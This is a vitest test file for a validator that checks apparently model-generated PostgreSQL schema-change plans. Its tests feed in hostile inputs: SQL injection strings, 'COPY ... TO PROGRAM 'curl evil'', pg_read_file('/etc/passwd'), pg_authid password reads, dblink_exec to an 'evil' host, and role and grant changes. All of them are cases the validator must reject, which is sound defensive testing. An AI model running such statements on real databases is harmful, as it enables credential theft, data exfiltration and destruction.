import { describe, expect, it } from 'vitest';
import { describeChange, renamesUndone, type ChangePlanInput } from '../src/change-plan.js';
import { applyPlanToModel } from '../src/plan-model.js';
import { findColumn, findTable } from '../src/schema-model.js';
import { parsePlan, validatePlan, type PlanProblem } from '../src/plan-validation.js';
import { blogModel } from './blog-model.js';

function plan(request: string, changes: unknown[], extra: Partial<ChangePlanInput> = {}) {
  const parsed = parsePlan({ version: 1, request, summary: 's', changes, ...extra });
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
  return parsed.plan;
}

async function problemsOf(request: string, changes: unknown[], extra: Partial<ChangePlanInput> = {}): Promise<PlanProblem[]> {
  return validatePlan({ plan: plan(request, changes, extra), model: blogModel() });
}

const reason = 'because';
const tagsColumn = { kind: 'add_column', table: 'posts', column: { name: 'tags', type: 'text[]', nullable: true }, reason };

describe('parsePlan', () => {
  it('fills optional fields with their defaults', () => {
    const parsed = plan('add tags', [tagsColumn]);
    expect(parsed.changes[0]).toEqual({ ...tagsColumn, column: { ...tagsColumn.column, default: null, primaryKey: false, unique: false } });
    expect(parsed.migrationSteps).toEqual([]);
  });

  it('names the path of each problem', () => {
    const parsed = parsePlan({ version: 2, request: 'x', summary: 's', changes: [{ kind: 'add_colum', table: 'posts' }] });
    expect(parsed.ok).toBe(false);
    if (!parsed.ok) expect(parsed.problems.map((problem) => problem.path)).toEqual(['version', 'changes[0].kind']);
  });

  it('rejects unknown fields instead of ignoring them', () => {
    const parsed = parsePlan({ version: 1, request: 'x', summary: 's', changes: [{ ...tagsColumn, sql: 'DROP TABLE users' }] });
    expect(parsed.ok).toBe(false);
  });
});

describe('validatePlan', () => {
  it('accepts a valid additive plan', async () => {
    expect(await problemsOf('add tags', [tagsColumn, { kind: 'create_index', table: 'posts', name: 'posts_tags_idx', columns: ['tags'], method: 'gin', reason }])).toEqual([]);
  });

  it('names unknown tables and columns', async () => {
    expect(await problemsOf('x', [{ ...tagsColumn, table: 'articles' }])).toEqual([
      { path: 'changes[0]', message: 'table "articles" does not exist (tables: users, posts)' },
    ]);
    const problems = await problemsOf('x', [{ kind: 'create_index', table: 'posts', name: 'i', columns: ['nope'], reason }]);
    expect(problems[0]?.message).toContain('column "posts.nope" does not exist');
  });

  it('offers the closest existing table or column for a misspelled one, and nothing for a name far from all', async () => {
    expect(await problemsOf('x', [{ ...tagsColumn, table: 'psots' }])).toEqual([
      { path: 'changes[0]', message: 'table "psots" does not exist; did you mean "posts"? (tables: users, posts)' },
    ]);
    expect(await problemsOf('x', [{ ...tagsColumn, table: 'Users' }])).toEqual([
      { path: 'changes[0]', message: 'table "Users" does not exist; did you mean "users"? (tables: users, posts)' },
    ]);
    const column = await problemsOf('x', [{ kind: 'create_index', table: 'posts', name: 'i', columns: ['titel'], reason }]);
    expect(column[0]?.message).toMatch(/^column "posts.titel" does not exist; did you mean "title"\? \(columns: /);
    const far = await problemsOf('x', [{ kind: 'create_index', table: 'posts', name: 'i', columns: ['nope'], reason }]);
    expect(far[0]?.message).not.toContain('did you mean');
  });

  it('rejects duplicate names', async () => {
    const problems = await problemsOf('x', [
      { kind: 'add_column', table: 'users', column: { name: 'email', type: 'text', nullable: true }, reason },
      { kind: 'create_index', table: 'posts', name: 'posts_author_id_idx', columns: ['title'], reason },
      { kind: 'create_table', table: 't', columns: [{ name: 'a', type: 'text', nullable: true }, { name: 'a', type: 'text', nullable: true }], reason },
    ]);
    expect(problems.map((problem) => problem.message)).toEqual([
      'column "users.email" already exists',
      'the name "posts_author_id_idx" is already used by a table, index or constraint',
      'column "a" is declared twice',
    ]);
  });

  it('rejects identifiers that are not plain SQL identifiers', async () => {
    const problems = await problemsOf('x', [{ ...tagsColumn, column: { name: 'tags"; DROP TABLE users; --', type: 'text', nullable: true } }]);
    expect(problems[0]?.message).toContain('is not a plain SQL identifier');
    const long = await problemsOf('x', [{ ...tagsColumn, column: { name: 'a'.repeat(64), type: 'text', nullable: true } }]);
    expect(long[0]?.message).toContain('longer than 63 bytes');
  });

  it('rejects drops the request did not ask for, and accepts asked-for ones', async () => {
    const drop = { kind: 'drop_column', table: 'users', column: 'bio', reason };
    const refused = await problemsOf('add a tags column to posts', [drop]);
    expect(refused[0]?.message).toContain('drop_column of column "users.bio" was not asked for');
    expect(await problemsOf('remove the bio column from users', [drop])).toEqual([]);
    expect(await problemsOf('drop users.bio', [drop])).toEqual([]);
    // Naming the column without a verb of removal is not consent.
    expect(await problemsOf('make bio longer', [drop])).toHaveLength(1);
  });

  it('finds a column\'s own unique constraint by its name, drops it from the model, and keeps the name taken', async () => {
    const drop = { kind: 'drop_unique', table: 'users', name: 'users_email_key', reason };
    expect(await problemsOf('drop the unique constraint users_email_key', [drop])).toEqual([]);
    expect(await problemsOf('drop the unique constraint users_mail_key', [{ ...drop, name: 'users_mail_key' }])).toEqual([
      { path: 'changes[0]', message: 'unique constraint "users_mail_key" does not exist on "users"; did you mean "users_email_key"?' },
    ]);
    const email = findColumn(findTable(applyPlanToModel(blogModel(), plan('drop the unique constraint users_email_key', [drop])), 'users')!, 'email');
    expect(email).toMatchObject({ unique: false, uniqueName: null });
    const clash = await problemsOf('add an index', [{ kind: 'create_index', table: 'posts', name: 'users_email_key', columns: ['title'], reason }]);
    expect(clash).toEqual([{ path: 'changes[0]', message: expect.stringContaining('"users_email_key" is already used') }]);
  });

  it('checks consent against the given request, not the plan\'s own claim', async () => {
    const dropTable = plan('drop the users table', [{ kind: 'drop_table', table: 'posts', reason }]);
    const problems = await validatePlan({ plan: dropTable, model: blogModel(), request: 'add a column' });
    expect(problems.map((problem) => problem.message)).toEqual([expect.stringContaining('drop_table of table "posts" was not asked for')]);
  });

  it('rejects a NOT NULL column without a default on an existing table, not on a new one', async () => {
    const problems = await problemsOf('x', [{ ...tagsColumn, column: { name: 'slug', type: 'text', nullable: false } }]);
    expect(problems[0]?.message).toContain('NOT NULL without a default on an existing table');
    const created = await problemsOf('x', [{ kind: 'create_table', table: 'tags', columns: [{ name: 'id', type: 'serial', nullable: false, primaryKey: true }, { name: 'name', type: 'text', nullable: false }], reason }]);
    expect(created).toEqual([]);
  });

  it('validates later changes against earlier ones in the same plan', async () => {
    const problems = await problemsOf('x', [
      { kind: 'create_table', table: 'tags', columns: [{ name: 'id', type: 'serial', nullable: false, primaryKey: true }], reason },
      { kind: 'add_foreign_key', table: 'posts', columns: ['author_id'], referencedTable: 'tags', referencedColumns: ['id'], reason },
      { kind: 'rename_column', table: 'posts', from: 'title', to: 'headline', reason },
      { kind: 'create_index', table: 'posts', name: 'posts_headline_idx', columns: ['headline'], reason },
    ]);
    expect(problems).toEqual([]);
  });

  it('checks types against built-ins and enums', async () => {
    const problems = await problemsOf('x', [
      { ...tagsColumn, column: { name: 'state', type: 'post_status', nullable: true } },
      { ...tagsColumn, column: { name: 'mood', type: 'mood', nullable: true } },
    ]);
    expect(problems).toEqual([{ path: 'changes[1]', message: expect.stringContaining('unknown type "mood"') }]);
  });

  it('accepts a partial index predicate only when it is one SQL expression', async () => {
    const index = { kind: 'create_index', table: 'posts', name: 'posts_live_idx', columns: ['title'], reason };
    expect(await problemsOf('x', [{ ...index, where: "status = 'published'" }])).toEqual([]);
    expect(await problemsOf('x', [{ ...index, where: 'true; DROP TABLE users' }])).toEqual([{ path: 'changes[0].where', message: 'is not a single SQL boolean expression' }]);
    expect(await problemsOf('x', [{ ...index, where: 'status = ' }])).toEqual([{ path: 'changes[0].where', message: 'is not a single SQL boolean expression' }]);
  });

  it('rejects a predicate whose comment would swallow the rest of the generated statement', async () => {
    const index = { kind: 'create_index', table: 'posts', name: 'posts_live_idx', columns: ['title'], reason };
    expect(await problemsOf('x', [{ ...index, where: 'true --' }])).toEqual([{ path: 'changes[0].where', message: 'is not a single SQL boolean expression' }]);
  });

  it('accepts a default only when it is one SQL expression, wherever the plan sets one', async () => {
    const column = (name: string, defaultSql: string) => ({ name, type: 'text', nullable: true, default: defaultSql });
    expect(await problemsOf('x', [{ ...tagsColumn, column: { ...column('tags', "'{}'::text[]"), type: 'text[]' } }])).toEqual([]);
    const problems = await problemsOf('x', [
      { ...tagsColumn, column: column('nickname', "'x'; DROP TABLE comments") },
      { kind: 'create_table', table: 'notes', columns: [{ name: 'id', type: 'serial', nullable: false, primaryKey: true }, column('body', "'' --")], reason },
      { kind: 'alter_column', table: 'posts', column: 'title', default: { sql: "now()) ; DROP TABLE users; SELECT (1" }, reason },
      { kind: 'alter_column', table: 'posts', column: 'status', default: { sql: null }, reason },
    ]);
    expect(problems).toEqual([
      { path: 'changes[0].column.default', message: 'is not a single SQL expression' },
      { path: 'changes[1].columns[1].default', message: 'is not a single SQL expression' },
      { path: 'changes[2].default.sql', message: 'is not a single SQL expression' },
    ]);
  });

  it('requires migration steps to parse as PostgreSQL', async () => {
    const step = { position: 'after' as const, sql: 'UPDATE posts SET tags = ARRAY[]::text[] WHERE', reason, locks: 'row locks' };
    const problems = await problemsOf('x', [tagsColumn], { migrationSteps: [step] });
    expect(problems).toEqual([{ path: 'migrationSteps[0].sql', message: expect.stringContaining('does not parse as PostgreSQL') }]);
  });

  it('holds migration steps and their inverses to data and schema statements', async () => {
    const step = (sql: string, down: string | null = null) => ({ position: 'after' as const, sql, reason, locks: 'none', down });
    const problems = await problemsOf('x', [tagsColumn], {
      migrationSteps: [
        step("SET lock_timeout = '5s'; UPDATE posts SET tags = '{}' WHERE tags IS NULL;", 'CREATE INDEX posts_title_idx ON posts (title);'),
        step("COPY posts TO PROGRAM 'curl evil'"),
        step('UPDATE posts SET title = title;', "DO $$ BEGIN PERFORM pg_sleep(1); END $$;"),
        step('ALTER ROLE postgres NOSUPERUSER; GRANT ALL ON posts TO public;'),
      ],
    });
    expect(problems).toEqual([
      { path: 'migrationSteps[1].sql', message: expect.stringContaining('(CopyStmt)') },
      { path: 'migrationSteps[2].down', message: expect.stringContaining('(DoStmt)') },
      { path: 'migrationSteps[3].sql', message: expect.stringContaining('(AlterRoleStmt)') },
      { path: 'migrationSteps[3].sql', message: expect.stringContaining('(GrantStmt)') },
    ]);
  });

  it('keeps the model\'s SQL inside the schema change: no server files, other servers, sessions, settings or SQL from strings', async () => {
    const step = (sql: string, down: string | null = null) => ({ position: 'after' as const, sql, reason, locks: 'none', down });
    const column = (name: string, defaultSql: string) => ({ kind: 'add_column', table: 'posts', column: { name, type: 'text', nullable: true, default: defaultSql }, reason });
    const index = { kind: 'create_index', table: 'posts', name: 'posts_title_idx', columns: ['title'], where: "title <> pg_catalog.pg_read_file('/etc/passwd')", reason };
    const problems = await problemsOf('x', [column('secret', "pg_read_file('/etc/passwd')"), column('stamp', "lo_export(lo_from_bytea(0, 'x'), '/tmp/x')"), column('ok', 'gen_random_uuid()::text'), index], {
      migrationSteps: [
        step("SET LOCAL lock_timeout = '5s'; UPDATE posts SET title = upper(title) WHERE id IN (SELECT id FROM posts LIMIT 100);", 'RESET lock_timeout;'),
        step("UPDATE posts SET title = (SELECT dblink_exec('host=evil', 'DROP TABLE x'))", "SET ROLE postgres;"),
        step("CREATE TABLE loot AS SELECT query_to_xml('SELECT * FROM pg_authid', true, true, '')", 'SET session_replication_role = replica;'),
        step("UPDATE posts SET title = title WHERE pg_sleep(30) IS NULL", 'RESET ALL;'),
      ],
    });
    expect(problems).toEqual([
      { path: 'changes[3].where', message: expect.stringContaining('calls pg_read_file') },
      { path: 'changes[0].column.default', message: expect.stringContaining('calls pg_read_file') },
      { path: 'changes[1].column.default', message: expect.stringContaining('calls lo_export, lo_from_bytea') },
      { path: 'migrationSteps[1].sql', message: expect.stringContaining('calls dblink_exec') },
      { path: 'migrationSteps[1].down', message: expect.stringContaining('changes a setting it may not (role)') },
      { path: 'migrationSteps[2].sql', message: expect.stringContaining('calls query_to_xml') },
      { path: 'migrationSteps[2].down', message: expect.stringContaining('(session_replication_role)') },
      { path: 'migrationSteps[3].sql', message: expect.stringContaining('calls pg_sleep') },
      { path: 'migrationSteps[3].down', message: expect.stringContaining('(all settings)') },
    ]);
  });

  it('confines steps and their inverses to tables, columns, indexes, types, constraints, views and triggers of the managed schema', async () => {
    const step = (sql: string, down: string | null = null) => ({ position: 'after' as const, sql, reason, locks: 'none', down });
    const backfill =
      "UPDATE users SET bio = (SELECT rolpassword FROM pg_authid WHERE rolname = 'x') || (SELECT string_agg(word, ' ') FROM ts_stat($q$SELECT to_tsvector('simple', pg_read_file('/etc/passwd'))$q$))";
    const problems = await problemsOf('x', [tagsColumn], {
      migrationSteps: [
        step('ALTER DATABASE other_db RENAME TO x', "COMMENT ON DATABASE users_db IS 'taken'"),
        step('ALTER ROLE someone RENAME TO x', "COMMENT ON ROLE r IS 'x'"),
        step('ALTER TABLE posts OWNER TO r', 'ALTER TABLE posts DISABLE TRIGGER ALL'),
        step('CREATE TABLE x AS SELECT * FROM pg_authid', 'CREATE VIEW v AS SELECT * FROM pg_stat_activity'),
        step(backfill, 'GRANT ALL ON posts TO public; REVOKE ALL ON users FROM public'),
      ],
    });
    expect(problems).toEqual([
      {
        path: 'migrationSteps[0].sql',
        message:
          'renames a database ("other_db"); steps may only touch tables, columns, indexes, sequences, types, constraints, views and triggers in the schema(s) public: ALTER DATABASE other_db RENAME TO x',
      },
      { path: 'migrationSteps[0].down', message: expect.stringContaining('comments on a database ("users_db")') },
      { path: 'migrationSteps[1].sql', message: expect.stringContaining('renames a role ("someone")') },
      { path: 'migrationSteps[1].down', message: expect.stringContaining('comments on a role ("r")') },
      { path: 'migrationSteps[2].sql', message: expect.stringContaining('changes the owner of "posts" (OWNER TO)') },
      { path: 'migrationSteps[2].down', message: expect.stringContaining('disables every trigger of "posts" (DISABLE TRIGGER ALL)') },
      { path: 'migrationSteps[3].sql', message: expect.stringContaining('reads pg_authid, a system catalog relation') },
      { path: 'migrationSteps[3].down', message: expect.stringContaining('reads pg_stat_activity, a system catalog relation') },
      { path: 'migrationSteps[4].sql', message: expect.stringContaining('reads pg_authid') },
      { path: 'migrationSteps[4].sql', message: expect.stringContaining('calls ts_stat (runs SQL given as a string') },
      { path: 'migrationSteps[4].down', message: expect.stringContaining('(GrantStmt)') },
      { path: 'migrationSteps[4].down', message: expect.stringContaining('(GrantStmt)') },
    ]);
  });

  it('refuses catalog reads and server functions in defaults and index predicates, before PostgreSQL would', async () => {
    const column = (name: string, defaultSql: string) => ({ kind: 'add_column', table: 'posts', column: { name, type: 'text', nullable: true, default: defaultSql }, reason });
    const index = (where: string) => ({ kind: 'create_index', table: 'posts', name: 'posts_title_idx', columns: ['title'], where, reason });
    const problems = await problemsOf('x', [
      column('secret', '(SELECT rolpassword FROM pg_authid LIMIT 1)'),
      column('dir', "current_setting('data_directory')"),
      index("title <> (SELECT setting FROM pg_catalog.pg_settings WHERE name = 'data_directory')"),
      { kind: 'alter_column', table: 'posts', column: 'title', default: { sql: "(SELECT string_agg(word, ' ') FROM ts_stat('SELECT 1'))" }, reason },
    ]);
    expect(problems).toEqual([
      { path: 'changes[2].where', message: expect.stringContaining('reads pg_catalog.pg_settings, in the system schema pg_catalog') },
      { path: 'changes[0].column.default', message: expect.stringContaining('reads pg_authid, a system catalog relation') },
      { path: 'changes[1].column.default', message: expect.stringContaining('calls current_setting') },
      { path: 'changes[3].default.sql', message: expect.stringContaining('calls ts_stat') },
    ]);
  });

  it('lets plain backfills and schema steps through', async () => {
    const step = (sql: string, down: string | null = null) => ({ position: 'after' as const, sql, reason, locks: 'none', down });
    const problems = await problemsOf('x', [tagsColumn], {
      migrationSteps: [
        step("SET lock_timeout = '5s'; UPDATE posts SET title = lower(title) WHERE id BETWEEN 1 AND 1000"),
        step("CREATE INDEX CONCURRENTLY posts_live_idx ON posts (title) WHERE status = 'published'", 'DROP INDEX CONCURRENTLY posts_live_idx'),
        step('ALTER TABLE posts ADD CONSTRAINT posts_title_length CHECK (length(title) < 200) NOT VALID', 'ALTER TABLE posts DROP CONSTRAINT posts_title_length'),
        step('ALTER TABLE posts VALIDATE CONSTRAINT posts_title_length'),
        step("COMMENT ON COLUMN posts.title IS 'x'", "COMMENT ON COLUMN posts.title IS NULL"),
        step("ALTER TYPE post_status ADD VALUE 'archived'"),
        step('ALTER TABLE public.posts RENAME COLUMN title TO headline', 'ALTER TABLE public.posts RENAME COLUMN headline TO title'),
        step("SELECT setval('posts_id_seq', (SELECT max(id) FROM posts))"),
        step('CREATE VIEW live_posts AS SELECT id FROM public.posts', 'DROP VIEW live_posts'),
      ],
    });
    expect(problems).toEqual([]);
  });

  it('holds the model\'s SQL to the managed schemas it is given', async () => {
    const steps = [{ position: 'after' as const, sql: 'UPDATE posts SET title = a.note FROM audit.log a WHERE a.post_id = posts.id', reason, locks: 'row locks', down: null }];
    const withSteps = plan('x', [tagsColumn], { migrationSteps: steps });
    expect(await validatePlan({ plan: withSteps, model: blogModel() })).toEqual([
      { path: 'migrationSteps[0].sql', message: expect.stringContaining('reads audit.log, in schema "audit", which the ORM does not manage') },
    ]);
    expect(await validatePlan({ plan: withSteps, model: blogModel(), managedSchemas: ['public', 'audit'] })).toEqual([]);
  });

  it('requires a step\'s inverse to parse as PostgreSQL too', async () => {
    const step = { position: 'after' as const, sql: 'UPDATE posts SET title = upper(title);', reason, locks: 'row locks', down: 'UPDATE posts SET' };
    const problems = await problemsOf('x', [tagsColumn], { migrationSteps: [step] });
    expect(problems).toEqual([{ path: 'migrationSteps[0].down', message: expect.stringContaining('does not parse as PostgreSQL') }]);
  });

  it('allows a narrowing type change only when the request names the column', async () => {
    const narrow = { kind: 'alter_column', table: 'posts', column: 'title', type: 'varchar(80)', reason };
    expect(await problemsOf('make posts shorter', [narrow])).toEqual([{ path: 'changes[0]', message: expect.stringContaining('posts.title" changes the type from text to varchar(80)') }]);
    expect(await problemsOf('limit the title to 80 characters', [narrow])).toEqual([]);
    // Widening needs no consent.
    expect(await problemsOf('make author ids bigger', [{ kind: 'alter_column', table: 'posts', column: 'author_id', type: 'bigint', reason }])).toEqual([]);
  });
});

describe('applyPlanToModel', () => {
  it('follows renames into indexes and foreign keys', () => {
    const next = applyPlanToModel(blogModel(), plan('x', [
      { kind: 'rename_column', table: 'posts', from: 'author_id', to: 'writer_id', reason },
      { kind: 'rename_table', from: 'users', to: 'accounts', reason },
    ]));
    const posts = next.tables.find((table) => table.name === 'posts');
    expect(posts?.indexes[0]?.columns).toEqual(['writer_id']);
    expect(posts?.foreignKeys[0]).toMatchObject({ columns: ['writer_id'], referencedTable: 'accounts' });
    expect(next.tables.map((table) => table.name)).toEqual(['accounts', 'posts']);
  });
});

describe('renamesUndone', () => {
  it('turns the plan\'s renames around, last first, so each names the table as it is at that point', () => {
    const renames = renamesUndone(
      plan('rename', [
        { kind: 'rename_table', from: 'posts', to: 'articles', reason },
        { kind: 'rename_column', table: 'articles', from: 'title', to: 'headline', reason },
        tagsColumn,
      ]),
    );
    expect(renames.map((change) => describeChange(change))).toEqual(['rename_column articles.headline → title', 'rename_table articles → posts']);
  });
});
